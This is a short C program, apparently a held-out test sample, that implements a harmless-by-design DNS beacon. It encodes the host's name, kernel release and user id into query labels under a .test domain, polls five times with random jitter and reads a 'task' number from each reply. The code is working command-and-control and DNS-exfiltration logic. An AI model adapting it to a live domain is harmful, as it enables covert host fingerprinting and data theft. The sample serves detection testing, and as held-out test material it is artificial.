/* Held-out stand-in: a DNS-only beacon (harmless: .test zone, five rounds, no commands run).
 * Each round hand-builds an A query whose labels carry the host's node name, kernel release and
 * uid in hex plus a round counter, sends it to the resolver named in /etc/resolv.conf, reads the
 * answer's address as a "task" number, and sleeps 25-55 s (random jitter) before the next. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <sys/utsname.h>
#include <time.h>
#include <unistd.h>

static void hex(const char *in, char *out, size_t max) {
    size_t n = 0;
    for (; *in && n + 2 < max && n < 62; in++, n += 2) sprintf(out + n, "%02x", (unsigned char)*in);
    out[n] = 0;
}

static size_t put_name(unsigned char *p, const char *name) {
    size_t n = 0;
    while (*name) {
        const char *dot = strchr(name, '.');
        size_t len = dot ? (size_t)(dot - name) : strlen(name);
        p[n++] = (unsigned char)len;
        memcpy(p + n, name, len);
        n += len;
        name += len + (dot ? 1 : 0);
    }
    p[n++] = 0;
    return n;
}

static void resolver(char *out, size_t max) {
    snprintf(out, max, "8.8.8.8");
    FILE *f = fopen("/etc/resolv.conf", "r");
    char line[256];
    while (f && fgets(line, sizeof line, f))
        if (sscanf(line, "nameserver %63s", out) == 1) break;
    if (f) fclose(f);
}

int main(void) {
    struct utsname u;
    uname(&u);
    char node[64], rel[64], ns[64], uid[16];
    hex(u.nodename, node, sizeof node);
    hex(u.release, rel, sizeof rel);
    snprintf(uid, sizeof uid, "u%d", (int)getuid());
    resolver(ns, sizeof ns);
    srand((unsigned)time(NULL) ^ (unsigned)getpid());
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(53)};
    inet_pton(AF_INET, ns, &to.sin_addr);
    struct timeval tv = {3, 0};
    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
    for (int round = 0; round < 5; round++) {
        char name[255];
        snprintf(name, sizeof name, "r%d.%s.%s.%s.ns1.telemetry-edge.test", round, node, rel, uid);
        unsigned char q[512] = {0};
        unsigned short id = (unsigned short)rand();
        q[0] = id >> 8; q[1] = id & 0xff; q[2] = 0x01; q[5] = 1;  /* RD, one question */
        size_t n = 12 + put_name(q + 12, name);
        q[n++] = 0; q[n++] = 1; q[n++] = 0; q[n++] = 1;          /* A, IN */
        sendto(fd, q, n, 0, (struct sockaddr *)&to, sizeof to);
        unsigned char a[512];
        ssize_t got = recv(fd, a, sizeof a, 0);
        if (got >= 4) printf("round %d task %u\n", round, (unsigned)a[got - 1]);
        sleep(25 + rand() % 31);
    }
    return 0;
}
